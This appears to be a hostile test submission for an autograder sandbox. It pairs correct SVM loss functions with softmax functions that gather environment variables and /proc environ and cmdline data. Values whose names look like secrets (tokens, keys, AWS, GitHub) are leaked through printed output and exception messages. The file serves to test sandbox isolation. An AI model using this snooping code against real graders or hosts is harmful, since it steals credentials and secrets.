"""Hostile submission ``env_snoop``: read the grader's environment and leak it through the feedback.

On its first call, collects ``os.environ``, ``/proc/self/environ``, ``/proc/1/environ``,
``/proc/<ppid>/environ`` and every readable ``/proc/*/environ`` and ``cmdline``; prints
all of it (student output is stored) and raises an exception whose message lists the
variable names and the values of anything that looks like a secret (``*CANARY*``,
``*TOKEN*``, ``*KEY*``, ``PROPGRADE*``, ...), so it lands in the feedback. Its softmax
functions raise that exception; its SVM functions are the reference.

Expected: the worker's environment is built from scratch (``--clearenv`` in the full
layer) and its /proc shows only its own pid namespace: nothing of the grader's
environment appears in any output file.
"""

import os
import sys

import numpy as np

ATTACK = "env_snoop"


def _say(message):
    """Leave a line in the captured output (fd 2), whatever the student did to sys.stderr."""
    try:
        os.write(2, ("HOSTILE[%s]: %s\n" % (ATTACK, message)).encode("utf-8", "replace"))
    except OSError:
        pass


def _template(value):
    """Values the test writes into its copy of this file; None when left as a placeholder."""
    return None if value.startswith("__HOSTILE") else value


_SNOOPED = []
_SECRETS = ("CANARY", "TOKEN", "KEY", "SECRET", "PASSWORD", "PROPGRADE", "GITHUB", "AWS")


def _snoop():
    if _SNOOPED:
        return _SNOOPED[0]
    found = dict(os.environ)
    sources = ["os.environ"]
    paths = ["/proc/self/environ", "/proc/1/environ", "/proc/%d/environ" % os.getppid()]
    try:
        paths += ["/proc/%s/environ" % p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    cmdlines = []
    for path in dict.fromkeys(paths):
        try:
            with open(path, "rb") as f:
                data = f.read()
        except OSError:
            continue
        sources.append(path)
        for item in data.split(b"\0"):
            key, _, value = item.decode("utf-8", "replace").partition("=")
            if key:
                found.setdefault(key, value)
        try:
            with open(path.replace("environ", "cmdline"), "rb") as f:
                cmdlines.append(f.read().replace(b"\0", b" ").decode("utf-8", "replace"))
        except OSError:
            pass
    print("HOSTILE env dump:", found, cmdlines)
    secrets = {k: v for k, v in found.items() if any(s in k.upper() for s in _SECRETS)}
    summary = "read %s; variables %s; secrets %s" % (sources, sorted(found), secrets)
    _say(summary)
    _SNOOPED.append(summary)
    return summary


def svm_loss_naive(W, X, y, reg):
    W = np.asarray(W, dtype=np.float64)  # no copy for float64 input: never write into W or X
    X = np.asarray(X, dtype=np.float64)
    num_train = X.shape[0]
    num_classes = W.shape[1]
    loss = 0.0
    dW = np.zeros(W.shape, dtype=np.float64)
    for i in range(num_train):
        scores = X[i].dot(W)
        correct_class_score = scores[y[i]]
        for j in range(num_classes):
            if j == y[i]:
                continue
            margin = scores[j] - correct_class_score + 1.0  # delta = 1
            if margin > 0:
                loss += margin
                dW[:, j] += X[i]
                dW[:, y[i]] -= X[i]
    loss /= num_train
    dW /= num_train
    loss += reg * np.sum(W * W)
    dW += 2 * reg * W
    return float(loss), dW


def svm_loss_vectorized(W, X, y, reg):
    W = np.asarray(W, dtype=np.float64)  # no copy for float64 input: never write into W or X
    X = np.asarray(X, dtype=np.float64)
    num_train = X.shape[0]
    rows = np.arange(num_train)
    scores = X.dot(W)  # (N, C)
    correct_class_scores = scores[rows, y][:, np.newaxis]  # (N, 1)
    margins = np.maximum(0.0, scores - correct_class_scores + 1.0)  # delta = 1
    margins[rows, y] = 0.0  # the correct class never contributes
    loss = np.sum(margins) / num_train + reg * np.sum(W * W)

    # d loss_i / d s_j is 1 for every active margin j and -(number of active margins)
    # for j = y[i]. Each row is written once, so repeated labels are handled correctly.
    coeff = (margins > 0).astype(np.float64)  # (N, C)
    coeff[rows, y] = -np.sum(coeff, axis=1)
    dW = X.T.dot(coeff) / num_train + 2 * reg * W
    return float(loss), dW


def softmax_loss_naive(W, X, y, reg):
    raise RuntimeError(_snoop())


def softmax_loss_vectorized(W, X, y, reg):
    raise RuntimeError(_snoop())
